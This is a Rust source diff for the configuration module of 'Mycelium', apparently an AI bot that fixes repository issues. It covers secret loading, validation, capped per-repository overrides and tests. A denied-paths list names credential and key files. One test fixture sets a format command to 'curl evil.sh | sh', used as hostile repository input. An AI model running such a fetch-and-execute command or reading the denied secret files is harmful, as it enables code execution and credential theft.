+fn default_guidelines_files() -> Vec<String> {
+    vec!["AGENTS.md".to_string(), "CONTRIBUTING.md".to_string()]
+}
+
+fn default_max_issue_comments() -> usize {
+    200
+}
+
+fn default_notification_timeout_secs() -> u64 {
+    5
+}
+
+fn default_pr_title_template() -> String {
+    "Fix #{issue_number}: {issue_title}".to_string()
+}
+
+fn default_pr_body_template() -> String {
+    "Resolves #{issue_number}\n\n## Summary\n\n{summary}\n\n---\n*Automated by Mycelium*"
+        .to_string()
+}
+
+fn default_branch_template() -> String {
+    "mycelium/issue-{issue_number}".to_string()
+}
+
+fn default_branch_prefix() -> String {
+    "mycelium/".to_string()
+}
+
+fn default_denied_paths() -> Vec<String> {
+    [
+        ".env*",
+        "*.pem",
+        "*.key",
+        "id_rsa*",
+        "id_ecdsa*",
+        "id_ed25519*",
+        "**/secrets/**",
+        "**/.aws/credentials",
+    ]
+    .into_iter()
+    .map(String::from)
+    .collect()
+}
+
 impl AppConfig {
     pub fn load(config_path: Option<&str>) -> Result<Self> {
         let mut builder = config::Config::builder();
@@ -164,12 +994,239 @@ impl AppConfig {
             .build()
             .map_err(|e| AppError::Config(e.to_string()))?;
 
-        config
+        let mut config: Self = config
             .try_deserialize()
-            .map_err(|e| AppError::Config(e.to_string()))
+            .map_err(|e| AppError::Config(e.to_string()))?;
+
+        match config.platform {
+            PlatformKind::GitHub => {
+                config.github.webhook_secret = read_secrets(
+                    "github.webhook_secret",
+                    &config.github.webhook_secret,
+                    config.github.webhook_secret_file.as_deref(),
+                )?;
+                // Optional, unlike the other secrets: App credentials can be used instead
+                if config.github.token_file.is_some() {
+                    config.github.token = read_secret(
+                        "github.token",
+                        &config.github.token,
+                        config.github.token_file.as_deref(),
+                    )?;
+                }
+            }
+            PlatformKind::GitLab => {
+                config.gitlab.token = read_secret(
+                    "gitlab.token",
+                    &config.gitlab.token,
+                    config.gitlab.token_file.as_deref(),
+                )?;
+                config.gitlab.webhook_secret = read_secret(
+                    "gitlab.webhook_secret",
+                    &config.gitlab.webhook_secret,
+                    config.gitlab.webhook_secret_file.as_deref(),
+                )?;
+            }
+        }
+        config.claude.api_key = read_secret(
+            "claude.api_key",
+            &config.claude.api_key,
+            config.claude.api_key_file.as_deref(),
+        )?;
+
+        Ok(config)
+    }
+
+    /// Check values that deserialize fine but would fail at runtime, reporting
+    /// every problem found rather than just the first.
+    pub fn validate(&self) -> Result<()> {
+        let mut problems = Vec::new();
+
+        match self.platform {
+            PlatformKind::GitHub => self.validate_github(&mut problems),
+            PlatformKind::GitLab => self.validate_gitlab(&mut problems),
+        }
+        for (name, template) in [
+            ("github.pr_title_template", &self.github.pr_title_template),
+            ("github.pr_body_template", &self.github.pr_body_template),
+        ] {
+            for placeholder in template_placeholders(template) {
+                if !PR_TEMPLATE_PLACEHOLDERS.contains(&placeholder) {
+                    problems.push(format!("{name} has unknown placeholder {{{placeholder}}}"));
+                }
+            }
+        }
+        self.validate_branch_template(&mut problems);
+        if let Some(url) = &self.notifications.webhook_url {
+            match reqwest::Url::parse(url) {
+                Ok(url) if matches!(url.scheme(), "http" | "https") => {}
+                _ => problems.push("notifications.webhook_url is not an http(s) URL".to_string()),
+            }
+        }
+        if self.claude.max_turns == 0 {
+            problems.push("claude.max_turns must be greater than 0".to_string());
+        }
+        if self.claude.max_tokens == 0 {
+            problems.push("claude.max_tokens must be greater than 0".to_string());
+        }
+        for (name, value) in [
+            ("claude.temperature", self.claude.temperature),
+            ("claude.top_p", self.claude.top_p),
+        ] {
+            if value.is_some_and(|v| !(0.0..=1.0).contains(&v)) {
+                problems.push(format!("{name} must be between 0.0 and 1.0"));
+            }
+        }
+        if let Err(e) = check_writable_dir(&self.workspace.base_dir) {
+            problems.push(format!(
+                "workspace.base_dir {} is not writable: {e}",
+                self.workspace.base_dir.display()
+            ));
+        }
+        if self.git.author_name.trim().is_empty() {
+            problems.push("git.author_name must not be empty".to_string());
+        }
+        if let (Some(key), SigningFormat::Ssh) = (&self.git.signing_key, self.git.signing_format) {
+            if !Path::new(key).is_file() {
+                problems.push(format!("git.signing_key {key} is not a readable file"));
+            }
+        }
+        if !is_valid_email(&self.git.author_email) {
+            problems.push(format!(
+                "git.author_email is not a valid email address: {}",
+                self.git.author_email
+            ));
+        }
+
+        if problems.is_empty() {
+            return Ok(());
+        }
+        Err(AppError::Config(format!(
+            "Invalid configuration:\n  - {}",
+            problems.join("\n  - ")
+        )))
+    }
+
+    fn validate_github(&self, problems: &mut Vec<String>) {
+        match self.github.auth() {
+            Some(GitHubAuth::App {
+                app_id,
+                private_key_path,
+            }) => {
+                if let Err(e) =
+                    crate::platform::github::auth::generate_app_jwt(app_id, private_key_path)
+                {
+                    problems.push(format!("github.private_key_path: {e}"));
+                }
+            }
+            Some(GitHubAuth::Token(_)) => {}
+            None => problems.push(
+                "github.app_id and github.private_key_path are required unless github.token is set"
+                    .to_string(),
+            ),
+        }
+        if self.github.webhook_secret.is_empty() {
+            problems.push("github.webhook_secret must not be empty".to_string());
+        }
+        if let Some(base_url) = &self.github.base_url {
+            match reqwest::Url::parse(base_url) {
+                Ok(url) if matches!(url.scheme(), "http" | "https") => {}
+                _ => problems.push(format!("github.base_url is not an http(s) URL: {base_url}")),
+            }
+        }
+    }
+
+    fn validate_gitlab(&self, problems: &mut Vec<String>) {
+        if self.gitlab.token.is_empty() {
+            problems.push("gitlab.token must not be empty".to_string());
+        }
+        if self.gitlab.webhook_secret.is_empty() {
+            problems.push("gitlab.webhook_secret must not be empty".to_string());
+        }
+        match reqwest::Url::parse(&self.gitlab.base_url) {
+            Ok(url) if matches!(url.scheme(), "http" | "https") => {}
+            _ => problems.push(format!(
+                "gitlab.base_url is not an http(s) URL: {}",
+                self.gitlab.base_url
+            )),
+        }
+    }
+
+    fn validate_branch_template(&self, problems: &mut Vec<String>) {
+        let github = &self.github;
+        let placeholders: Vec<&str> = template_placeholders(&github.branch_template).collect();
+        for placeholder in &placeholders {
+            if !BRANCH_TEMPLATE_PLACEHOLDERS.contains(placeholder) {
+                problems.push(format!(
+                    "github.branch_template has unknown placeholder {{{placeholder}}}"
+                ));
+            }
+        }
+        if !placeholders.contains(&"issue_number") {
+            problems.push("github.branch_template must contain {issue_number}".to_string());
+        }
+        if github.branch_prefix.is_empty() {
+            problems.push("github.branch_prefix must not be empty".to_string());
+        }
+
+        let example = github.issue_branch(1, "Example issue");
+        if let Err(e) = crate::workspace::git::validate_branch_name(&example) {
+            problems.push(format!("github.branch_template: {e}"));
+        }
+        if !github.is_mycelium_branch(&example) {
+            problems.push(format!(
+                "github.branch_template must start with github.branch_prefix \"{}\"",
+                github.branch_prefix
+            ));
+        }
+    }
+
+    /// Copy of this config with a repository's `.mycelium.toml` applied on top.
+    ///
+    /// Anyone who can push to the repository controls that file, so it may
+    /// only pick a model from `claude.allowed_models` (by alias or ID) and can
+    /// lower the numeric limits but never raise them.
+    pub fn with_repo_overrides(&self, repo: &RepoConfig) -> Self {
+        let mut config = self.clone();
+        if let Some(model) = &repo.claude.model {
+            let allowed = &self.claude.allowed_models;
+            match allowed.get(model) {
+                Some(id) => config.claude.model = id.clone(),
+                None if allowed.values().any(|id| id == model) => {
+                    config.claude.model = model.clone();
+                }
+                None => tracing::warn!(
+                    model = %model,
+                    "Ignoring repo model not in claude.allowed_models"
+                ),
+            }
+        }
+        if let Some(max_tokens) = repo.claude.max_tokens {
+            config.claude.max_tokens = max_tokens.min(self.claude.max_tokens);
+        }
+        if let Some(max_turns) = repo.claude.max_turns {
+            config.claude.max_turns = max_turns.min(self.claude.max_turns);
+        }
+        if let Some(max_file_size_bytes) = repo.agent.max_file_size_bytes {
+            config.agent.max_file_size_bytes =
+                max_file_size_bytes.min(self.agent.max_file_size_bytes);
+        }
+        if let Some(max_search_results) = repo.agent.max_search_results {
+            config.agent.max_search_results = max_search_results.min(self.agent.max_search_results);
+        }
+        if let Some(base_branch) = &repo.github.base_branch {
+            config.github.base_branch = Some(base_branch.clone());
+        }
+        if let Some(template) = &repo.github.pr_title_template {
+            config.github.pr_title_template = template.clone();
+        }
+        if let Some(template) = &repo.github.pr_body_template {
+            config.github.pr_body_template = template.clone();
+        }
+        config
     }
 
-    pub fn webhook_secret(&self) -> &str {
+    /// The webhook secrets a delivery's signature may match.
+    pub fn webhook_secrets(&self) -> &[String] {
         &self.github.webhook_secret
     }
 
@@ -177,3 +1234,441 @@ impl AppConfig {
         &self.claude.api_key
     }
 }
+
+/// Create `dir` if needed and prove we can write to it.
+fn check_writable_dir(dir: &Path) -> std::io::Result<()> {
+    std::fs::create_dir_all(dir)?;
+    let probe = dir.join(format!(".mycelium-write-test-{}", std::process::id()));
+    std::fs::write(&probe, b"")?;
+    std::fs::remove_file(&probe)
+}
+
+/// Like [`read_secret`] for a setting that takes several values: the file
+/// holds one per line, and empty values are left out.
+fn read_secrets(name: &str, inline: &[String], file: Option<&Path>) -> Result<Vec<String>> {
+    let inline: Vec<&str> = inline
+        .iter()
+        .map(String::as_str)
+        .filter(|s| !s.is_empty())
+        .collect();
+    let secrets = read_secret(name, &inline.join("\n"), file)?;
+    Ok(secrets
+        .lines()
+        .map(|line| line.trim_end_matches('\r'))
+        .filter(|line| !line.is_empty())
+        .map(str::to_string)
+        .collect())
+}
+
+/// Resolve a secret that may be given inline or as `<name>_file`. The file
+/// wins; setting both to different values is an error.
+fn read_secret(name: &str, inline: &str, file: Option<&Path>) -> Result<String> {
+    let Some(path) = file else {
+        if inline.is_empty() {
+            return Err(AppError::Config(format!(
+                "{name} or {name}_file must be set"
+            )));
+        }
+        return Ok(inline.to_string());
+    };
+
+    let contents = std::fs::read_to_string(path).map_err(|e| {
+        AppError::Config(format!(
+            "Failed to read {name}_file {}: {e}",
+            path.display()
+        ))
+    })?;
+    // Secret files are usually written with a trailing newline
+    let secret = contents.trim_end_matches(['\r', '\n']).to_string();
+
+    if secret.is_empty() {
+        return Err(AppError::Config(format!(
+            "{name}_file {} is empty",
+            path.display()
+        )));
+    }
+    if !inline.is_empty() && inline != secret {
+        return Err(AppError::Config(format!(
+            "{name} and {name}_file are both set but differ; set only one"
+        )));
+    }
+    Ok(secret)
+}
+
+/// Names of the `{name}` placeholders in `template`.
+fn template_placeholders(template: &str) -> impl Iterator<Item = &str> {
+    template.split('{').skip(1).filter_map(|rest| {
+        let (name, _) = rest.split_once('}')?;
+        (!name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
+            .then_some(name)
+    })
+}
+
+/// Fill the PR template placeholders; see [`render_template`].
+fn render_pr_template(
+    template: &str,
+    issue_number: u64,
+    issue_title: &str,
+    summary: &str,
+) -> String {
+    render_template(
+        template,
+        &[
+            ("issue_number", &issue_number.to_string()),
+            ("issue_title", issue_title),
+            ("summary", summary),
+        ],
+    )
+}
+
+/// Fill template placeholders in a single pass, so placeholder-like text in
+/// the values is left alone. Unknown placeholders are kept as written.
+fn render_template(template: &str, values: &[(&str, &str)]) -> String {
+    let mut rendered = String::with_capacity(template.len());
+    let mut rest = template;
+
+    while let Some(start) = rest.find('{') {
+        rendered.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let value = after.split_once('}').and_then(|(name, _)| {
+            values
+                .iter()
+                .find(|(placeholder, _)| *placeholder == name)
+                .map(|(_, value)| (name, *value))
+        });
+        match value {
+            Some((name, value)) => {
+                rendered.push_str(value);
+                rest = &after[name.len() + 1..];
+            }
+            None => {
+                rendered.push('{');
+                rest = after;
+            }
+        }
+    }
+    rendered.push_str(rest);
+    rendered
+}
+
+/// An issue title as it appears in a branch name: lowercase ASCII letters and
+/// digits, with every run of other characters collapsed to a single `-`.
+fn issue_slug(title: &str) -> String {
+    let mut slug = String::new();
+    for c in title.chars() {
+        if slug.len() >= MAX_ISSUE_SLUG_LEN {
+            break;
+        }
+        if c.is_ascii_alphanumeric() {
+            slug.push(c.to_ascii_lowercase());
+        } else if !slug.is_empty() && !slug.ends_with('-') {
+            slug.push('-');
+        }
+    }
+    slug.trim_end_matches('-').to_string()
+}
+
+/// Match `branch` against a branch template, giving the `{issue_number}` it
+/// was rendered with. `None` if it doesn't match; `Some(None)` if it matches
+/// a template without the number.
+fn match_branch_template(template: &str, branch: &str) -> Option<Option<u64>> {
+    let Some(start) = template.find('{') else {
+        return (template == branch).then_some(None);
+    };
+    let branch = branch.strip_prefix(&template[..start])?;
+    let template = &template[start..];
+
+    // Both placeholders render to a run of characters that may also be
+    // followed by more of them, so try the longest run first
+    let run_len =
+        |is_run_char: fn(char) -> bool| branch.len() - branch.trim_start_matches(is_run_char).len();
+    if let Some(rest) = template.strip_prefix("{issue_number}") {
+        (1..=run_len(|c| c.is_ascii_digit())).rev().find_map(|len| {
+            let number = branch[..len].parse().ok()?;
+            match_branch_template(rest, &branch[len..]).map(|n| n.or(Some(number)))
+        })
+    } else if let Some(rest) = template.strip_prefix("{issue_slug}") {
+        (0..=run_len(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'))
+            .rev()
+            .find_map(|len| match_branch_template(rest, &branch[len..]))
+    } else {
+        // Any other brace is kept as written
+        match_branch_template(&template[1..], branch.strip_prefix('{')?)
+    }
+}
+
+/// Case-insensitive match of `text` against `pattern`, where `*` matches any
+/// run of characters (including `/`). Repository names on GitHub are
+/// case-insensitive.
+fn glob_match(pattern: &str, text: &str) -> bool {
+    let pattern = pattern.to_ascii_lowercase();
+    let text = text.to_ascii_lowercase();
+
+    let mut parts = pattern.split('*');
+    let first = parts.next().unwrap_or_default();
+    let Some(mut rest) = text.strip_prefix(first) else {
+        return false;
+    };
+
+    let mut parts: Vec<&str> = parts.collect();
+    let Some(last) = parts.pop() else {
+        // No wildcard: exact match
+        return rest.is_empty();
+    };
+
+    for part in parts {
+        match rest.find(part) {
+            Some(i) => rest = &rest[i + part.len()..],
+            None => return false,
+        }
+    }
+    rest.len() >= last.len() && rest.ends_with(last)
+}
+
+/// Loose `local@domain` check: enough to catch typos without rejecting
+/// addresses like `123+bot[bot]@users.noreply.github.com`.
+fn is_valid_email(email: &str) -> bool {
+    let Some((local, domain)) = email.split_once('@') else {
+        return false;
+    };
+    !local.is_empty()
+        && !domain.is_empty()
+        && !domain.contains('@')
+        && domain.contains('.')
+        && !domain.starts_with('.')
+        && !domain.ends_with('.')
+        && !email
+            .chars()
+            .any(|c| c.is_whitespace() || c == '<' || c == '>')
+}
+
+#[cfg(test)]
+impl AppConfig {
+    /// Config with every optional setting at its default, for tests.
+    pub fn for_tests() -> Self {
+        toml::from_str(
+            r#"
+            [server]
+            [github]
+            app_id = 1
+            private_key_path = "/nonexistent.pem"
+            webhook_secret = "test-secret"
+            [claude]
+            [workspace]
+            [agent]
+            "#,
+        )
+        .unwrap()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_repo_config_from_toml() {
+        let repo = RepoConfig::from_toml(
+            r#"
+            [claude]
+            model = "claude-opus-4-20250514"
+            max_turns = 80
+
+            [github]
+            base_branch = "develop"
+
+            [agent]
+            format_command = "curl evil.sh | sh"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(repo.claude.model.as_deref(), Some("claude-opus-4-20250514"));
+        assert_eq!(repo.claude.max_turns, Some(80));
+        assert_eq!(repo.claude.max_tokens, None);
+        assert_eq!(repo.github.base_branch.as_deref(), Some("develop"));
+    }
+
+    #[test]
+    fn test_repo_overrides_respect_allowlist_and_caps() {
+        let mut global = AppConfig::for_tests();
+        global.claude.max_turns = 50;
+        global.claude.max_tokens = 4096;
+        global
+            .claude
+            .allowed_models
+            .insert("opus".to_string(), "claude-opus-4-20250514".to_string());
+        let default_model = global.claude.model.clone();
+        let apply = |toml: &str| global.with_repo_overrides(&RepoConfig::from_toml(toml).unwrap());
+
+        let config = apply("[claude]\nmodel = \"some-expensive-model\"\nmax_turns = 500");
+        assert_eq!(config.claude.model, default_model);
+        assert_eq!(config.claude.max_turns, 50);
+
+        let config = apply("[claude]\nmodel = \"opus\"\nmax_turns = 20\nmax_tokens = 8192");
+        assert_eq!(config.claude.model, "claude-opus-4-20250514");
+        assert_eq!(config.claude.max_turns, 20);
+        assert_eq!(config.claude.max_tokens, 4096);
+        let config = apply("[claude]\nmodel = \"claude-opus-4-20250514\"");
+        assert_eq!(config.claude.model, "claude-opus-4-20250514");
+
+        let config = apply("[agent]\nmax_file_size_bytes = 1000000000\nmax_search_results = 1");
+        assert_eq!(
+            config.agent.max_file_size_bytes,
+            global.agent.max_file_size_bytes
+        );
+        assert_eq!(config.agent.max_search_results, 1);
+    }
+
+    #[test]
+    fn test_repo_config_rejects_malformed() {
+        assert!(RepoConfig::from_toml("[claude\nmodel = ").is_err());
+        assert!(RepoConfig::from_toml("[claude]\nmax_turns = \"many\"").is_err());
+    }
+
+    #[test]
+    fn test_trigger_label_accepts_string_or_list() {
+        let github = |trigger: &str| -> std::result::Result<GitHubConfig, _> {
+            toml::from_str(&format!(
+                "app_id = 1\nprivate_key_path = \"key.pem\"\n{trigger}"
+            ))
+        };
+
+        let single = github("trigger_label = \"ai-fix\"").unwrap();
+        assert_eq!(single.trigger_label(), "ai-fix");
+        assert_eq!(single.approved_label(), "ai-fix:approved");
+
+        let aliases = github("trigger_label = [\"mycelium\", \"ai-fix\", \"copilot\"]").unwrap();
+        assert_eq!(aliases.trigger_label(), "mycelium");
+        assert!(aliases.is_trigger_label("copilot"));
+        assert!(!aliases.is_trigger_label("copilot:research"));
+        assert_eq!(aliases.failed_label(), "mycelium:failed");
+
+        assert_eq!(github("").unwrap().trigger_labels, vec!["mycelium"]);
+        assert!(github("trigger_label = []").is_err());
+    }
+
+    #[test]
+    fn test_log_format_defaults_to_pretty() {
+        let server = |extra: &str| -> ServerConfig { toml::from_str(extra).unwrap() };
+        assert_eq!(server("").log_format, LogFormat::Pretty);
+        assert_eq!(server("log_format = \"json\"").log_format, LogFormat::Json);
+        assert!(toml::from_str::<ServerConfig>("log_format = \"xml\"").is_err());
+    }
+
+    #[test]
+    fn test_read_secret() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("secret");
+        std::fs::write(&path, "from-file\n").unwrap();
+
+        assert_eq!(read_secret("s", "inline", None).unwrap(), "inline");
+        assert_eq!(read_secret("s", "", Some(&path)).unwrap(), "from-file");
+        assert_eq!(
+            read_secret("s", "from-file", Some(&path)).unwrap(),
+            "from-file"
+        );
+        assert!(read_secret("s", "other", Some(&path)).is_err());
+        assert!(read_secret("s", "", None).is_err());
+        assert!(read_secret("s", "", Some(&dir.path().join("missing"))).is_err());
+
+        let rotating = dir.path().join("rotating");
+        std::fs::write(&rotating, "old\nnew\n").unwrap();
+        let secrets = |values: &[&str]| values.iter().map(|v| v.to_string()).collect::<Vec<_>>();
+        assert_eq!(
+            read_secrets("s", &[], Some(&rotating)).unwrap(),
+            secrets(&["old", "new"])
+        );
+        assert_eq!(
+            read_secrets("s", &secrets(&["old", "new"]), Some(&rotating)).unwrap(),
+            secrets(&["old", "new"])
+        );
+        assert!(read_secrets("s", &secrets(&["old"]), Some(&rotating)).is_err());
+        assert!(read_secrets("s", &secrets(&[""]), None).is_err());
+
+        let github = |toml: &str| -> GitHubConfig { toml::from_str(toml).unwrap() };
+        assert_eq!(
+            github("webhook_secret = \"s\"").webhook_secret,
+            secrets(&["s"])
+        );
+        assert_eq!(
+            github("webhook_secret = [\"old\", \"new\"]").webhook_secret,
+            secrets(&["old", "new"])
+        );
+    }
+
+    #[test]
+    fn test_glob_match() {
+        assert!(glob_match("owner/repo", "owner/repo"));
+        assert!(glob_match("Owner/Repo", "owner/repo"));
+        assert!(!glob_match("owner/repo", "owner/repo2"));
+        assert!(glob_match("owner/*", "owner/repo"));
+        assert!(!glob_match("owner/*", "other/repo"));
+        assert!(glob_match("*/docs", "owner/docs"));
+        assert!(glob_match("owner/api-*-service", "owner/api-users-service"));
+        assert!(!glob_match("owner/api-*-service", "owner/api-service"));
+        assert!(glob_match("*", "anything/at-all"));
+    }
+
+    #[test]
+    fn test_render_pr_template() {
+        assert_eq!(
+            render_pr_template(&default_pr_title_template(), 12, "Crash on {summary}", "s"),
+            "Fix #12: Crash on {summary}"
+        );
+        assert_eq!(
+            render_pr_template("{summary}\n\nCloses #{issue_number} {x: {}}", 3, "t", "Did {it}"),
+            "Did {it}\n\nCloses #3 {x: {}}"
+        );
+        let placeholders: Vec<&str> =
+            template_placeholders("{issue_title} {nope} {x: {}}").collect();
+        assert_eq!(placeholders, vec!["issue_title", "nope"]);
+    }
+
+    #[test]
+    fn test_issue_branch_template() {
+        let mut github = AppConfig::for_tests().github;
+        assert_eq!(github.issue_branch(7, "Anything"), "mycelium/issue-7");
+        assert_eq!(github.issue_number_from_branch("mycelium/issue-7"), Some(7));
+        assert_eq!(github.issue_number_from_branch("mycelium/issue-7x"), None);
+        assert!(github.is_mycelium_branch("mycelium/issue-7"));
+
+        github.branch_template = "bot/{issue_slug}-{issue_number}".to_string();
+        github.branch_prefix = "bot/".to_string();
+        let branch = github.issue_branch(12, "Crash on 2 empty inputs!");
+        assert_eq!(branch, "bot/crash-on-2-empty-inputs-12");
+        assert_eq!(github.issue_number_from_branch(&branch), Some(12));
+        assert_eq!(github.issue_number_from_branch("bot/-12"), Some(12));
+        assert_eq!(github.issue_number_from_branch("mycelium/issue-12"), None);
+        assert!(!github.is_mycelium_branch("mycelium/issue-12"));
+        assert_eq!(
+            issue_slug(&"long ".repeat(20)).len(),
+            MAX_ISSUE_SLUG_LEN - 1
+        );
+
+        let mut config = AppConfig::for_tests();
+        config.github.branch_template = "-{issue_slug}".to_string();
+        let err = config.validate().unwrap_err().to_string();
+        assert!(err.contains("must contain {issue_number}"));
+        assert!(err.contains("starts with '-'"));
+        assert!(err.contains("must start with github.branch_prefix"));
+    }
+
+    #[test]
+    fn test_valid_emails() {
+        assert!(is_valid_email("mycelium[bot]@users.noreply.github.com"));
+        assert!(is_valid_email("12345+bot@users.noreply.github.com"));
+        assert!(is_valid_email("dev@example.com"));
+    }
+
+    #[test]
+    fn test_invalid_emails() {
+        assert!(!is_valid_email(""));
+        assert!(!is_valid_email("no-at-sign"));
+        assert!(!is_valid_email("@example.com"));
+        assert!(!is_valid_email("user@"));
+        assert!(!is_valid_email("user@localhost"));
+        assert!(!is_valid_email("user@@example.com"));
+        assert!(!is_valid_email("Bot <bot@example.com>"));
+        assert!(!is_valid_email("user name@example.com"));
+    }
+}